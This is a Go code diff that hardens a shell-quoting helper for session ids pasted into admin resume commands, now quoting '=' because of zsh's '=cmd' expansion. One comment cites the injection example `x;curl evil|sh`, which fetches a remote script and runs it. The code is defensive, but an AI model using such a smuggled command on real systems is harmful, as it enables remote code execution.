@@ -147,11 +147,13 @@ func (b *Breaker) Drain(ctx context.Context) {
 // shellWord is s as one word of a POSIX shell command: as it is when it
 // holds only characters no shell reads specially, else single-quoted. A
 // session id is the client's text, and an admin pastes the resume command
-// into a shell: `x;curl evil|sh` must stay one argument.
+// into a shell: `x;curl evil|sh` must stay one argument. '=' is quoted
+// too: zsh, a common admin shell, expands a word that begins "=cmd" to
+// the command's path.
 func shellWord(s string) string {
 	plain := s != ""
 	for _, r := range s {
-		if !(r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' || strings.ContainsRune("._-:/+=@%,", r)) {
+		if !(r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' || strings.ContainsRune("._-:/+@%,", r)) {
 			plain = false
 			break
 		}
